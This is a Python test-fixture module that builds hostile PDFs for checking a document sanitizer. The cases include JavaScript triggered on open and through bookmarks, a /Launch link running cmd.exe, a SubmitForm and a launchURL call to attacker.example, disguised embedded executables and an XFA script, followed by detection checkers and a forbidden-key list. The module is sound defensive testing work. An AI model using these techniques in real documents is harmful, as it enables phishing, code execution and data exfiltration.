"""Hostile PDFs, built in code: one builder per attack, each with the verdict it must get.

Every case is a two-page document with one kind of active or hidden content put where
real attacks put it; ``expected`` is what the sanitizer must report. ``active_content``
checks a file independently of the service's code, by walking ``qpdf --json`` and,
separately, every object pikepdf finds.
"""

from __future__ import annotations

import io
import json
import subprocess
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import pikepdf
from pikepdf import Array, Dictionary, Name, String

from meetingsvc.documents.sanitize import ActiveKind

PAGES = 2


@dataclass(frozen=True)
class HostileCase:
    name: str
    build: Callable[[pikepdf.Pdf], None]
    expected: dict[ActiveKind, int]
    #: Where the attack comes from.
    source: str

    def pdf(self) -> bytes:
        pdf = _base()
        self.build(pdf)
        return _save(pdf)


def _base(pages: int = PAGES) -> pikepdf.Pdf:
    pdf = pikepdf.new()
    for number in range(pages):
        pdf.add_blank_page(page_size=(595, 842))
        pdf.pages[number].Contents = pdf.make_stream(
            b"BT /F1 12 Tf 72 720 Td (Trang %d) Tj ET" % (number + 1))
    return pdf


def _save(pdf: pikepdf.Pdf) -> bytes:
    out = io.BytesIO()
    pdf.save(out)
    return out.getvalue()


def _js(code: str = "app.alert('x');") -> Dictionary:
    return Dictionary(Type=Name.Action, S=Name.JavaScript, JS=String(code))


def _names(pdf: pikepdf.Pdf) -> pikepdf.Object:
    if "/Names" not in pdf.Root:
        pdf.Root.Names = pdf.make_indirect(Dictionary())
    return pdf.Root.Names


def _annotate(pdf: pikepdf.Pdf, annotation: Dictionary, page: int = 0) -> None:
    target = pdf.pages[page].obj
    if "/Annots" not in target:
        target.Annots = Array()
    target.Annots.append(pdf.make_indirect(annotation))


def _link(action: Dictionary) -> Dictionary:
    return Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=[72, 600, 300, 620],
                      Border=[0, 0, 0], A=action)


def document_javascript(pdf: pikepdf.Pdf) -> None:
    _names(pdf).JavaScript = Dictionary(Names=[String("init"), pdf.make_indirect(_js())])


def open_action_javascript(pdf: pikepdf.Pdf) -> None:
    pdf.Root.OpenAction = _js("this.exportDataObject({cName: 'a', nLaunch: 2});")


def page_additional_action(pdf: pikepdf.Pdf) -> None:
    pdf.pages[1].obj.AA = Dictionary(O=_js("app.launchURL('http://attacker.example');"))


def link_launch(pdf: pikepdf.Pdf) -> None:
    _annotate(pdf, _link(Dictionary(S=Name.Launch, Win=Dictionary(
        F=String("cmd.exe"), P=String("/c calc.exe")))))


def submit_form(pdf: pikepdf.Pdf) -> None:
    _annotate(pdf, _link(Dictionary(S=Name.SubmitForm, F=Dictionary(
        FS=Name.URL, F=String("http://attacker.example/collect")), Flags=4)))


def import_data(pdf: pikepdf.Pdf) -> None:
    _annotate(pdf, _link(Dictionary(S=Name.ImportData, F=String("data.fdf"))))


def _filespec(pdf: pikepdf.Pdf, name: str = "payload.exe") -> Dictionary:
    data = pdf.make_stream(b"MZ\x90\x00 not really a program", Type=Name.EmbeddedFile)
    return Dictionary(Type=Name.Filespec, F=String(name), UF=String(name), EF=Dictionary(F=data))


def embedded_file(pdf: pikepdf.Pdf) -> None:
    _names(pdf).EmbeddedFiles = Dictionary(
        Names=[String("payload.exe"), pdf.make_indirect(_filespec(pdf))])


def file_attachment_annotation(pdf: pikepdf.Pdf) -> None:
    _annotate(pdf, Dictionary(Type=Name.Annot, Subtype=Name.FileAttachment,
                              Rect=[72, 500, 90, 520], FS=_filespec(pdf, "hoa-don.pdf.exe"),
                              Contents=String("Tài liệu đính kèm")), page=1)


def rich_media_annotation(pdf: pikepdf.Pdf) -> None:
    flash = pdf.make_stream(b"FWS\x09 not really flash", Type=Name.EmbeddedFile)
    asset = Dictionary(Type=Name.Filespec, F=String("movie.swf"), EF=Dictionary(F=flash))
    _annotate(pdf, Dictionary(
        Type=Name.Annot, Subtype=Name.RichMedia, Rect=[72, 300, 400, 500],
        RichMediaContent=Dictionary(Assets=Dictionary(Names=[String("movie.swf"), asset]),
                                    Configurations=Array()),
        RichMediaSettings=Dictionary()))


def xfa_form(pdf: pikepdf.Pdf) -> None:
    xdp = pdf.make_stream(b'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template>'
                          b"<script>app.alert(1)</script></template></xdp:xdp>")
    pdf.Root.AcroForm = Dictionary(Fields=Array(), XFA=xdp)
    pdf.Root.NeedsRendering = True


def outline_javascript(pdf: pikepdf.Pdf) -> None:
    outlines = pdf.make_indirect(Dictionary(Type=Name.Outlines, Count=1))
    item = pdf.make_indirect(Dictionary(Title=String("Mục lục"), Parent=outlines,
                                        A=_js("app.alert('outline');")))
    outlines.First = item
    outlines.Last = item
    pdf.Root.Outlines = outlines


def next_chain_javascript(pdf: pikepdf.Pdf) -> None:
    hidden = _js("app.alert('chained');")
    middle = Dictionary(S=Name.GoTo, D=[pdf.pages[1].obj, Name.Fit], Next=[hidden])
    _annotate(pdf, _link(Dictionary(S=Name.URI, URI=String("https://tinhuy.example.vn"),
                                    Next=middle)))


CASES = [
    HostileCase("document-javascript", document_javascript, {ActiveKind.JAVASCRIPT: 1},
                "document-level /Names /JavaScript, run on open (ISO 32000-1 §12.6.4.16); "
                "the carrier of the 2009 Reader exploits (CVE-2009-4324)"),
    HostileCase("open-action-javascript", open_action_javascript, {ActiveKind.JAVASCRIPT: 1},
                "/OpenAction JavaScript, flagged by Didier Stevens' pdfid (/OpenAction, /JS)"),
    HostileCase("page-additional-action", page_additional_action, {ActiveKind.JAVASCRIPT: 1},
                "page /AA /O (page open) trigger, ISO 32000-1 §12.6.3 table 194"),
    HostileCase("link-launch", link_launch, {ActiveKind.LAUNCH: 1},
                "Didier Stevens, 'Escape from PDF' (2010): /Launch runs cmd.exe from a link"),
    HostileCase("submit-form", submit_form, {ActiveKind.SUBMIT_FORM: 1},
                "data exfiltration by /SubmitForm, 'PDF Insecurity' (Ruhr-Uni Bochum, 2021)"),
    HostileCase("import-data", import_data, {ActiveKind.IMPORT_DATA: 1},
                "/ImportData pulls FDF into a form, ISO 32000-1 §12.7.5.4"),
    HostileCase("embedded-file", embedded_file, {ActiveKind.EMBEDDED_FILE: 1},
                "/Names /EmbeddedFiles dropper, as in the 2010 'PDF dropper' campaigns"),
    HostileCase("file-attachment", file_attachment_annotation, {ActiveKind.EMBEDDED_FILE: 1},
                "FileAttachment annotation carrying an executable, ISO 32000-1 §12.5.6.15"),
    HostileCase("rich-media", rich_media_annotation, {ActiveKind.RICH_MEDIA: 1},
                "RichMedia (Flash) annotation, CVE-2010-1297 and CVE-2011-0611"),
    HostileCase("xfa-form", xfa_form, {ActiveKind.XFA: 1},
                "XFA form with script, CVE-2013-0640; /NeedsRendering forces the XFA view"),
    HostileCase("outline-javascript", outline_javascript, {ActiveKind.JAVASCRIPT: 1},
                "JavaScript in a bookmark's /A, which most scanners do not look at"),
    HostileCase("next-chain-javascript", next_chain_javascript, {ActiveKind.JAVASCRIPT: 1},
                "JavaScript at the end of an innocent /URI → /GoTo /Next chain "
                "(ISO 32000-1 §12.6.2)"),
]


def everything(pdf: pikepdf.Pdf) -> None:
    for case in CASES:
        case.build(pdf)


ALL_AT_ONCE = HostileCase(
    "all-at-once", everything,
    {ActiveKind.JAVASCRIPT: 5, ActiveKind.LAUNCH: 1, ActiveKind.SUBMIT_FORM: 1,
     ActiveKind.IMPORT_DATA: 1, ActiveKind.EMBEDDED_FILE: 2, ActiveKind.RICH_MEDIA: 1,
     ActiveKind.XFA: 1},
    "every attack above in one file")
ALL_CASES = [*CASES, ALL_AT_ONCE]


def issuance_source(pages: int = PAGES) -> bytes:
    """A source with JavaScript, an OpenAction, a Launch link, an embedded file and XFA."""
    pdf = _base(pages)
    for build in (document_javascript, open_action_javascript, link_launch, embedded_file,
                  xfa_form):
        build(pdf)
    return _save(pdf)


# --- independent checks ------------------------------------------------------------------

_ACTION_TYPES = {"/JavaScript", "/Launch", "/SubmitForm", "/ImportData", "/GoToE", "/GoToR",
                 "/Rendition", "/Movie", "/Sound", "/RichMediaExecute"}
_ANNOTATION_TYPES = {"/FileAttachment", "/RichMedia", "/3D", "/Screen", "/Movie", "/Sound"}
_FORBIDDEN_KEYS = {"/JS", "/AA", "/JavaScript", "/EmbeddedFiles", "/EF", "/AF", "/XFA",
                   "/NeedsRendering", "/Collection", "/RichMediaContent"}


def _findings_in(dictionary: dict[str, object]) -> list[str]:
    found = [key for key in dictionary if key in _FORBIDDEN_KEYS]
    if dictionary.get("/S") in _ACTION_TYPES:
        found.append(f"/S {dictionary['/S']}")
    if dictionary.get("/Subtype") in _ANNOTATION_TYPES and "/Rect" in dictionary:
        found.append(f"annotation {dictionary['/Subtype']}")
    if isinstance(dictionary.get("/OpenAction"), dict):
        found.append("/OpenAction action")
    return found


def _walk_json(value: object) -> list[str]:
    found: list[str] = []
    pending = [value]
    while pending:
        current = pending.pop()
        if isinstance(current, dict):
            found += _findings_in(current)
            pending.extend(current.values())
        elif isinstance(current, list):
            pending.extend(current)
    return found


def active_content_by_qpdf(path: Path) -> list[str]:
    """Everything forbidden that ``qpdf --json`` shows in any object of the file."""
    output = subprocess.run(["qpdf", "--json=2", "--json-key=qpdf", str(path)],
                            capture_output=True, check=True).stdout
    objects = json.loads(output)["qpdf"][1]
    found: list[str] = []
    for key, entry in objects.items():
        value = entry.get("value", entry.get("stream", {}).get("dict"))
        found += [f"{key}: {what}" for what in _walk_json(value)]
    return found


def active_content_by_pikepdf(path: Path) -> list[str]:
    """Everything forbidden in any object pikepdf finds, the trailer included."""
    found: list[str] = []
    with pikepdf.open(path) as pdf:
        for obj in [pdf.trailer, *pdf.objects]:
            found += _walk_pikepdf(obj)
    return found


def _walk_pikepdf(root: pikepdf.Object) -> list[str]:
    found: list[str] = []
    pending = [root]
    while pending:
        current = pending.pop()
        if isinstance(current, pikepdf.Dictionary | pikepdf.Stream):
            as_dict = {key: str(value) if isinstance(value, pikepdf.Name) else
                       ({} if isinstance(value, pikepdf.Dictionary) else value)
                       for key, value in current.items()}
            found += _findings_in(as_dict)
            pending += [v for v in current.values() if _direct(v)]
        elif isinstance(current, pikepdf.Array):
            pending += [v for v in current if _direct(v)]
    return found


def page_count(path: Path) -> int:
    with pikepdf.open(path) as pdf:
        return len(pdf.pages)


def _direct(value: object) -> bool:
    return isinstance(value, pikepdf.Object) and not value.is_indirect
